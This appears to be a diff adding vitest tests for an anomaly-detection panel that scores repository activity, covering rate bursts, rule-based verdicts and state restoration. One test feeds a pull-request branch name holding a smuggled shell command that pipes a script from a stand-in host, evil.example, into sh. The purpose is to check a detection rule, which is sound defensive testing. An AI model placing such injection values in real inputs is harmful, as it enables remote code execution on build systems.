@@ -1,0 +1,50 @@
+import { describe, expect, it } from "vitest";
+import { activity, NOON } from "../activity-under-test.ts";
+import { FeatureExtractor } from "../features/extract.ts";
+import { STARTER_RULES } from "../rules/starter-rules.ts";
+import { Panel } from "./panel.ts";
+
+const OPTIONS = { trees: 10, sampleSize: 64, seed: "test", rules: STARTER_RULES };
+
+/** Pushes by many accounts, each to its own repository, a second apart. */
+function push(n: number) {
+  return activity("push", { at: NOON + n * 1000, actor: `user-${n % 90}`, repo: `user-${n % 90}/app` });
+}
+
+describe("the panel", () => {
+  it("gives no verdict while nobody can judge", () => {
+    const [panel, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
+    for (let n = 0; n < 100; n++) expect(panel.judge(extractor.observe(push(n)))).toBeUndefined();
+  });
+
+  it("lets a rule speak before anything was learned", () => {
+    const [panel, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
+    const verdict = panel.judge(extractor.observe(activity("pull-request", { headRef: "x$(curl evil.example|sh)" })));
+    expect(verdict).toMatchObject({ surprise: 8, rule: { id: "shell-in-ref" }, subject: "actor" });
+  });
+
+  it("is surprised by a planted burst, and says which rate it was", () => {
+    const [panel, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
+    const surprises = Array.from({ length: 2500 }, (_, n) => panel.judge(extractor.observe(push(n)))?.surprise ?? 0);
+    const burst = Array.from({ length: 150 }, (_, n) =>
+      panel.judge(
+        extractor.observe(activity("push", { id: `b${n}`, at: NOON + 2_500_000 + n, actor: "mallory", repo: "m/x" })),
+      ),
+    );
+    const last = burst[burst.length - 1];
+    expect(last?.surprise).toBeGreaterThan(Math.max(...surprises.slice(500)) + 0.5);
+    expect(last?.scores.map(({ detector }) => detector)).toContain("rate");
+    expect(last?.drivers.length).toBeGreaterThan(0);
+  });
+
+  it("goes on from a saved state as if never stopped", () => {
+    const [live, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
+    const observations = Array.from({ length: 900 }, (_, n) => extractor.observe(push(n)));
+    for (const each of observations.slice(0, 600)) live.judge(each);
+    const restored = new Panel({ ...OPTIONS, seed: "another" });
+    restored.restore(live.save(true));
+    const rest = observations.slice(600);
+    expect(rest.map((each) => restored.judge(each))).toEqual(rest.map((each) => live.judge(each)));
+    expect(restored.save(true)).toEqual(live.save(true));
+  });
+});
